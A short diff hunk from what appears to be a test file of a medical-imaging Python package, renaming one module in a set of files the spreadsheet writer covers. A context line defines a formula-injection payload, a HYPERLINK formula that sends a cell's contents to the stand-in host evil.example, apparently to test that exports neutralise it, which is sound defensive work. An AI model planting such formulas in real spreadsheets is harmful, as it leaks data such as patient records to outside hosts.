@@ -21,7 +21,7 @@ from osteon.formats import write_segmentation
 from osteon.importing.pseudonyms import Patient, Pseudonyms
 
 EVIL = '=HYPERLINK("http://evil.example/"&A1,"femur")'
-OWN = {"core/spreadsheets.py", "formats/rle.py", "training/conductor.py"}
+OWN = {"core/spreadsheets.py", "formats/rle.py", "training/callback.py"}
 """The writer itself; tables of RLE, whose names programs compare; metrics.csv of a run, which holds numbers alone."""
 NAMES = st.text(st.characters(codec="utf-8", exclude_characters="\r\n\0"))
 
